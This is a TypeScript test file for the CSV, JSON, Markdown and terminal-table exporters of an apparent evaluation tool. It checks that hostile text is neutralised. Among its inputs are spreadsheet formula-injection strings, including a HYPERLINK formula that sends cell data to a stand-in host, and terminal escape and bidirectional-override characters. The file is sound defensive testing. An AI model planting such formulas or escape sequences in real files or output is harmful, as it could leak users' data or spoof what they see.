import { describe, expect, it } from 'vitest';
import type { RowResult } from '../../src/core/schemas/result.ts';
import { scored, unscored } from '../../src/core/schemas/score.ts';
import { exportCsv } from '../../src/report/export-csv.ts';
import { exportJson } from '../../src/report/export-json.ts';
import { foldedResult } from '../../src/report/folded-result.ts';
import { renderMarkdownSummary } from '../../src/report/markdown-summary.ts';
import { cellText, renderTextTable } from '../../src/report/text-table.ts';
import { HOSTILE_TEXTS } from '../contracts/samples.ts';
import { csvReader } from './csv-reader.ts';
import { finishedRun, rowResult } from './finished-run.ts';

async function* of(results: readonly RowResult[]): AsyncGenerator<RowResult> {
  yield* results;
}
const text = async (parts: AsyncIterable<string>) => (await Array.fromAsync(parts)).join('');
const csv = async (results: readonly RowResult[], metrics: readonly string[] = []) => {
  const [header = [], ...rows] = csvReader.parse(await text(exportCsv(of(results), metrics)));
  return rows.map((row) => Object.fromEntries(header.map((name, position) => [name, row[position]])));
};

describe('CSV', () => {
  it('gives texts back as they were, whatever they hold, one record a result', async () => {
    const texts = ['a,b', 'say "no"', 'two\nlines', 'cr\r\nlf', ' spaces ', '', 'ünï 😀', ...HOSTILE_TEXTS].filter(
      (value) => value.isWellFormed() && !/^[\s=+\-@\uff1d\uff0b\uff0d\uff20]/.test(value),
    );
    const rows = await csv(texts.map((output) => rowResult({ output })));
    expect(rows.map(({ output }) => output)).toEqual(texts);
  });

  it.each(['=1+1', '+1', '-2+3', '@SUM(A1)', '\t=1', '\r=1', '\n=1', '  =1', '＝1', '=HYPERLINK("http://x?"&A1)'])(
    'never starts a cell with what a spreadsheet runs: %j',
    async (value) => {
      const [row] = await csv([
        rowResult({ output: value, input: value, expected: value, row_id: value, error: value }),
      ]);
      for (const column of ['output', 'input', 'expected', 'row_id', 'error']) expect(row?.[column]).toBe(`'${value}`);
    },
  );

  it('leaves numbers alone, also those below 0, and nothing known empty', async () => {
    const metrics = { tone: scored(0.25, 'because', {}), other: unscored('not-applicable', 'no claim') };
    const [row] = await csv(
      [rowResult({ latency_ms: 1e-7, score: null, scores: metrics })],
      ['tone', 'other', 'third'],
    );
    expect(row).toMatchObject({
      latency_ms: '1e-7',
      score: '',
      'score.tone': '0.25',
      'reason.tone': 'because',
      'score.other': '',
      'reason.other': 'no claim',
      'score.third': '',
    });
  });

  it('ends every line with CR LF, and has only the header without results', async () => {
    const lines = (await text(exportCsv(of([rowResult(), rowResult()]), []))).split('\r\n');
    expect(lines).toHaveLength(4);
    expect(lines[3]).toBe('');
    expect((await text(exportCsv(of([]), []))).split('\r\n')).toHaveLength(2);
  });

  it('writes what is no text as JSON', async () => {
    const [row] = await csv([rowResult({ input: { b: 1, a: [2] }, contexts: ['x'], metadata: { k: 'v' } })]);
    expect(row).toMatchObject({ input: '{"a":[2],"b":1}', contexts: '["x"]', metadata: '{"k":"v"}' });
  });
});

describe('JSON', () => {
  it('holds summary and results whole', async () => {
    const results = HOSTILE_TEXTS.map((output) => rowResult({ output }));
    expect(JSON.parse(await text(exportJson(finishedRun(), of(results))))).toEqual({ summary: finishedRun(), results });
    expect(JSON.parse(await text(exportJson(null, of([]))))).toEqual({ summary: null, results: [] });
  });
});

describe('a result on the terminal', () => {
  it('folds long text after four lines and says how long it is', () => {
    const shown = foldedResult(rowResult({ output: 'word '.repeat(4000) }), { columns: 80, full: false });
    expect(shown).toContain('… 20,000 characters in all, --full shows them');
    expect(shown.split('\n').length).toBeLessThan(12);
    for (const line of shown.split('\n')) expect(line.length).toBeLessThanOrEqual(80);
  });

  it('shows it whole when asked to', () => {
    const shown = foldedResult(rowResult({ output: `${'word '.repeat(500)}end` }), { columns: 80, full: true });
    expect(shown).toMatch(/end\n/);
    expect(shown).not.toContain('--full');
  });

  it('takes a megabyte without wrapping all of it, and lets nothing act on the terminal', () => {
    const shown = foldedResult(rowResult({ output: '\u001b[31m\u202e'.repeat(200_000) }), { columns: 80, full: false });
    for (const mark of ['\u001b', '\u202e']) expect(shown).not.toContain(mark);
    expect(shown.length).toBeLessThan(1_500);
  });

  it('says that an answer is empty', () => {
    expect(foldedResult(rowResult({ output: '' }), { columns: 80, full: false })).toContain('answer    (empty)');
  });
});

describe('Markdown', () => {
  it('counts the failed results that it does not show', () => {
    const failed = Array.from({ length: 10 }, (_, n) => rowResult({ passed: false, row_id: `r${n}` }));
    const shown = renderMarkdownSummary(finishedRun(), failed, 1234);
    expect(shown).toContain('1,234 results did not pass');
    expect(shown).toContain('and 1,224 more');
  });
});

describe('a table', () => {
  it('aligns wide characters, cuts long cells and hides nothing', () => {
    const table = renderTextTable(
      ['name', 'n'],
      [
        { name: '日本', n: 1 },
        { name: `\u001b[2J${'x'.repeat(100)}`, n: 12.5 },
        { name: null, n: null },
      ],
    );
    expect(table).not.toContain('\u001b');
    expect(table.split('\n')[0]).toMatch(/^name {46}n$|^name +n$/);
    expect(table).toContain('…');
  });

  it.each([
    [null, '–'],
    [0.1 + 0.2, '0.3'],
    [1 / 3, '0.333333'],
    [12_345_678, '12345678'],
    [['a', null], 'a, –'],
    [{ a: 1 }, '{"a":1}'],
    [true, 'true'],
  ])('shows %j as %s', (value, shown) => {
    expect(cellText(value)).toBe(shown);
  });
});
